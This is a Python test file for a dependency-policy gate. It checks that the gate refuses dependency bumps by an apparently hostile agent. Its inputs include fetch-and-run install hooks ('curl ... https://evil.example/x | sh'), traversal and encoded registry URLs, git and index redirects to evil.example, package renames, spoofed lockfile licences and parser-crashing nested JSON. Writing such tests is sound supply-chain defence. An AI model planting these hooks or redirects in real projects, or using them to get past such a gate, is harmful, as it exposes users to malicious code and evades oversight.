"""Issue 11 attacks on the dependency gate: a hostile agent's dependency-bump that tries to
bring in a package the policy does not admit. Each test feeds real manifest and lockfile text
through the worker's gate (``check_dependency_change``) with a real parsed policy section."""

from __future__ import annotations

import json
from typing import Any

import pytest

from intake.core.policy import Dependencies
from intake.workers.deps.gate import DependencyCheck, check_dependency_change
from intake.workers.snapshot import ChangedFile

POLICY = Dependencies.model_validate({
    "allow": ["npm:left-pad", "pypi:ruff", "cargo:serde", "go:golang.org/x/text"],
    "deny": ["npm:axios@1.14.1"],
    "licenses": {"unknown": "allow"},
})
PYPROJECT = '[project]\nname = "x"\nversion = "1"\ndependencies = []\n'
CARGO = '[package]\nname = "x"\nversion = "0.1.0"\n\n[dependencies]\n'


def gate(before: dict[str, str], after: dict[str, str]) -> DependencyCheck:
    changed = [ChangedFile(p, "M" if p in before else "A") for p in sorted(after) if before.get(p) != after[p]]
    return check_dependency_change(changed, before.get, after.get, POLICY)


def npm(deps: dict[str, str], locked: dict[str, dict[str, Any]], **extra: Any) -> dict[str, str]:
    return {
        "package.json": json.dumps({"name": "web", "dependencies": deps, **extra}),
        "package-lock.json": json.dumps({"name": "web", "lockfileVersion": 3,
                                         "packages": {"": {"name": "web"}, **locked}}),
    }


BASE_NPM = npm({}, {})


def test_a_lockfile_tarball_url_that_walks_out_of_the_allowed_package_is_refused() -> None:
    """npm fetches ``resolved`` as a URL: ``left-pad/-/../../evil/-/evil-1.0.0.tgz`` is evil's
    tarball (its integrity hash is the attacker's to write), recorded as allowed left-pad."""
    url = "https://registry.npmjs.org/left-pad/-/../../evil/-/evil-1.0.0.tgz"
    after = npm({"left-pad": "1.0.0"}, {"node_modules/left-pad": {
        "version": "1.0.0", "resolved": url, "integrity": "sha512-AAAA"}})
    reasons = gate(BASE_NPM, after).reasons
    assert any(r.startswith("dependency: not a registry package: left-pad 1.0.0 from ") for r in reasons), reasons


@pytest.mark.parametrize("tail", ["%2e%2e/%2e%2e/evil/-/evil-1.0.0.tgz", "x.tgz?u=https://evil/e.tgz",
                                  "..%2F..%2Fevil/-/evil-1.0.0.tgz", "left-pad-1.0.0.tgz#/../../evil"])
def test_encoded_or_query_tricks_in_the_tarball_url_are_refused(tail: str) -> None:
    after = npm({"left-pad": "1.0.0"}, {"node_modules/left-pad": {
        "version": "1.0.0", "resolved": f"https://registry.npmjs.org/left-pad/-/{tail}", "integrity": "sha512-AAAA"}})
    assert any("not a registry package: left-pad 1.0.0 from" in r for r in gate(BASE_NPM, after).reasons)


def test_the_registry_tarball_of_the_allowed_package_still_passes() -> None:
    after = npm({"left-pad": "1.0.0"}, {"node_modules/left-pad": {
        "version": "1.0.0", "resolved": "https://registry.npmjs.org/left-pad/-/left-pad-1.0.0.tgz",
        "integrity": "sha512-AAAA"}})
    check = gate(BASE_NPM, after)
    assert check.reasons == []
    assert [(e["name"], e["after"]) for e in check.entries] == [("left-pad", "1.0.0")]


def test_an_npm_alias_of_an_allowed_name_to_another_package_is_refused() -> None:
    after = npm({"left-pad": "npm:evil@1.0.0"}, {"node_modules/left-pad": {
        "name": "evil", "version": "1.0.0", "resolved": "https://registry.npmjs.org/evil/-/evil-1.0.0.tgz",
        "integrity": "sha512-AAAA"}})
    assert "dependency: unlisted package: npm:evil 1.0.0" in gate(BASE_NPM, after).reasons


@pytest.mark.parametrize("table", [
    '[tool.uv]\ndev-dependencies = ["evil==1.0"]\n',
    '[tool.uv]\noverride-dependencies = ["ruff @ https://evil.example/ruff.whl"]\n',
    '[tool.uv]\nconstraint-dependencies = ["evil==1.0"]\n',
    '[tool.pdm.dev-dependencies]\ntest = ["evil==1.0"]\n',
    '[tool.setuptools.dynamic]\ndependencies = { file = ["src/deps.txt"] }\n',
])
def test_pyproject_tool_tables_that_install_packages_are_checked(table: str) -> None:
    """``uv sync`` installs ``[tool.uv] dev-dependencies`` and applies overrides/constraints;
    ``pdm install`` its dev groups: a package added there is a dependency like any other."""
    reasons = gate({"pyproject.toml": PYPROJECT}, {"pyproject.toml": PYPROJECT + table}).reasons
    assert reasons and all(r.startswith("dependency: ") for r in reasons), reasons


@pytest.mark.parametrize("before,after", [
    (BASE_NPM, npm({}, {}, scripts={"preinstall": "curl -s https://evil.example/x | sh"})),
    ({"Cargo.toml": CARGO}, {"Cargo.toml": CARGO.replace('version = "0.1.0"', 'version = "0.1.0"\nbuild = "src/x.rs"')}),
    ({"pyproject.toml": PYPROJECT},
     {"pyproject.toml": PYPROJECT + '[tool.hatch.envs.default]\ndependencies = ["evil==1.0"]\n'}),
], ids=["npm-scripts", "cargo-build", "hatch-env"])
def test_a_manifest_change_outside_its_dependency_tables_is_refused(before: dict[str, str], after: dict[str, str]) -> None:
    """npm install runs package.json scripts, cargo build the crate's build script, hatch its
    environments' dependencies: none is a dependency entry, so a dependency-bump may not touch them."""
    [path] = [p for p in after if before.get(p) != after[p] and not p.endswith("-lock.json")]
    assert gate(before, after).reasons == [
        f"dependency: manifest changed outside its dependencies: {path} (only dependency entries may change)"
    ]


def test_a_dependency_bump_that_only_touches_dependency_entries_is_not_flagged() -> None:
    go = "module x\n\ngo 1.22\n\nrequire golang.org/x/text v0.14.0\n"
    sums = "golang.org/x/text v0.14.0 h1:AAAA\ngolang.org/x/text v0.15.0 h1:BBBB\n"
    before = {"go.mod": go, "go.sum": sums}
    after = {"go.mod": go.replace("1.22", "1.23").replace("v0.14.0", "v0.15.0"), "go.sum": sums}
    assert gate(before, after).reasons == []
    pyproject = PYPROJECT + '[tool.ruff]\nline-length = 100\n'
    bumped = pyproject.replace("dependencies = []", 'dependencies = ["ruff==0.5"]')
    assert gate({"pyproject.toml": pyproject}, {"pyproject.toml": bumped}).reasons == []



@pytest.mark.parametrize("path,text,field", [
    ("web/package.json", json.dumps({"name": "w", "scripts": {"preinstall": "curl https://evil.example | sh"}}),
     "scripts.preinstall"),
    ("web/package.json", json.dumps({"name": "w", "scripts": {"postinstall": "node x.js"}}), "scripts.postinstall"),
    ("web/package.json", json.dumps({"name": "w", "scripts": {"prepare": "node x.js"}}), "scripts.prepare"),
    ("web/package.json", json.dumps({"name": "w", "bin": {"ls": "./evil.js"}}), "bin.ls"),
    ("web/package.json", json.dumps({"name": "w", "workspaces": ["../../"]}), "workspaces"),
    ("web/package.json", json.dumps({"name": "w", "publishConfig": {"registry": "https://evil.example"}}),
     "publishConfig.registry"),
    ("web/package.json", json.dumps({"name": "w", "gypfile": True}), "gypfile"),
    ("tools/pyproject.toml", '[project]\nname = "t"\n[project.scripts]\nt = "t:main"\n', "project.scripts.t"),
    ("tools/pyproject.toml", '[project]\nname = "t"\n[project.entry-points."pytest11"]\nx = "x"\n',
     "project.entry-points.pytest11.x"),
    ("tools/pyproject.toml", '[tool.hatch.build.hooks.custom]\npath = "hook.py"\n', "tool.hatch.build.hooks.custom.path"),
    ("crate/Cargo.toml", '[package]\nname = "c"\nbuild = "build.rs"\n', "package.build"),
    ("crate/Cargo.toml", '[package]\nname = "c"\n[lib]\nproc-macro = true\n', "lib.proc-macro"),
    ("mod/go.mod", "module m\n\ntoolchain go1.99.0\n", "toolchain"),
], ids=["preinstall", "postinstall", "prepare", "bin", "workspaces", "registry", "gyp", "py-scripts",
        "py-entry-points", "hatch-hook", "cargo-build", "cargo-proc-macro", "go-toolchain"])
def test_a_new_manifest_with_install_scripts_is_refused(path: str, text: str, field: str) -> None:
    """The agent's dependency-bump adds a manifest of its own (there is no base to compare its
    non-dependency part with): anything but dependency tables and name, version, private,
    description blocks, naming the field."""
    reasons = gate({}, {path: text}).reasons
    assert [r for r in reasons if r.startswith("dependency: new manifest holds more than dependencies: ")] == [
        f"dependency: new manifest holds more than dependencies: {path} ({field}; a new manifest may hold only "
        "dependency tables and name, version, private, description)"], reasons


@pytest.mark.parametrize("path,text", [
    ("tools/package.json", json.dumps({"name": "t", "version": "1.0.0", "private": True, "description": "tools",
                                       "dependencies": {"left-pad": "1.0.0"}})),
    ("tools/pyproject.toml", '[project]\nname = "t"\nversion = "1"\ndescription = "d"\ndependencies = ["ruff==0.5"]\n'),
    ("tools/Cargo.toml", '[package]\nname = "t"\nversion = "0.1.0"\npublish = false\n\n[dependencies]\nserde = "=1.0.1"\n'),
    ("tools/go.mod", "module example.com/t\n\ngo 1.22\n\nrequire golang.org/x/text v0.14.0\n"),
    ("tools/requirements.txt", "ruff==0.5\n"),
], ids=["npm", "pyproject", "cargo", "go", "requirements"])
def test_a_new_manifest_with_only_identity_and_dependencies_passes_that_check(path: str, text: str) -> None:
    reasons = gate({}, {path: text}).reasons
    assert not [r for r in reasons if "new manifest" in r or "outside its dependencies" in r], reasons


def test_a_lockfile_license_never_overrides_the_policy() -> None:
    """The agent writes ``"license": "MIT"`` into the lockfile entry of a package the policy says
    is GPL (and GPL is denied): the policy's license is the one checked, and the disagreement
    itself is a reason."""
    policy = Dependencies.model_validate({
        "allow": [{"package": "npm:gplpad", "license": "GPL-3.0-only"}, {"package": "npm:mitpad", "license": "MIT"},
                  "npm:plainpad"],
        "licenses": {"denied": ["GPL-3.0-only"], "unknown": "block"}})
    def lock(name: str, license: str | None) -> dict[str, str]:
        entry = {"version": "1.0.0", "resolved": f"https://registry.npmjs.org/{name}/-/{name}-1.0.0.tgz",
                 "integrity": "sha512-AAAA", **({"license": license} if license else {})}
        return npm({name: "1.0.0"}, {f"node_modules/{name}": entry})
    def check(name: str, license: str | None) -> DependencyCheck:
        changed = [ChangedFile(p, "M") for p in sorted(lock(name, license))]
        return check_dependency_change(changed, BASE_NPM.get, lock(name, license).get, policy)
    spoofed = check("gplpad", "MIT")
    assert spoofed.reasons == [
        "dependency: license disagrees with the policy: npm:gplpad 1.0.0 (the lockfile says MIT, the policy says "
        "GPL-3.0-only)",
        "dependency: denied license: npm:gplpad 1.0.0 (GPL-3.0-only)",
    ]
    assert spoofed.entries[0]["license"] == "GPL-3.0-only"
    assert check("gplpad", None).reasons == ["dependency: denied license: npm:gplpad 1.0.0 (GPL-3.0-only)"]
    # A lockfile that agrees (in any spelling of the same expression) is fine; one that names a
    # licence the policy does not is refused even when both would pass.
    assert check("mitpad", "MIT").reasons == []
    assert check("mitpad", "ISC").reasons == [
        "dependency: license disagrees with the policy: npm:mitpad 1.0.0 (the lockfile says ISC, the policy says MIT)"]
    # Neither says: unknown applies as before; only the lockfile says: it is used.
    assert check("plainpad", None).reasons == ["dependency: unknown license: npm:plainpad 1.0.0"]
    assert check("plainpad", "MIT").reasons == []


@pytest.mark.parametrize("before,after", [
    ({"go.mod": "module x\n\ngo 1.22\n"}, {"go.mod": "module x\n\ngo 1.22\n\nreplace golang.org/x/text => ../text\n"}),
    ({"Cargo.toml": CARGO}, {"Cargo.toml": CARGO + 'serde = { workspace = true }\n[workspace.dependencies]\n'
                                                  'serde = { git = "https://evil.example/serde" }\n'}),
    ({"Cargo.toml": CARGO}, {"Cargo.toml": CARGO + 'serde = { package = "evil", version = "1" }\n'}),
    ({"requirements.txt": "ruff==0.1\n"}, {"requirements.txt": "ruff==0.1\n-e git+https://evil.example#egg=ruff\n"}),
    ({"requirements.txt": ""}, {"requirements.txt": "ruff==0.1\r--index-url https://evil.example\n"}),
    ({"requirements.txt": ""}, {"requirements.txt": "-r docs/requirements-x.txt\n", "docs/requirements-x.txt": "evil==1\n"}),
], ids=["go-replace", "cargo-workspace-git", "cargo-rename", "req-editable-vcs", "req-cr-index", "req-include"])
def test_source_redirects_renames_and_includes_are_refused(before: dict[str, str], after: dict[str, str]) -> None:
    reasons = gate(before, after).reasons
    assert reasons and all(r.startswith("dependency: ") for r in reasons), reasons


@pytest.mark.parametrize("path,text", [
    ("package-lock.json", '{"lockfileVersion": 3, "packages": ' + "[" * 100_000 + "]" * 100_000 + "}"),
    ("Cargo.lock", "x = " + "[" * 100_000 + "]" * 100_000 + "\n"),
    ("package.json", '{"dependencies": ' + '{"a":' * 50_000 + "1" + "}" * 50_000 + "}"),
])
def test_a_deeply_nested_dependency_file_is_blocked_not_a_crash(path: str, text: str) -> None:
    after = dict(BASE_NPM) if path.startswith("package") else {}
    after[path] = text
    before = BASE_NPM if path.startswith("package") else {}
    assert f"dependency: unparseable dependency file: {path}" in gate(before, after).reasons
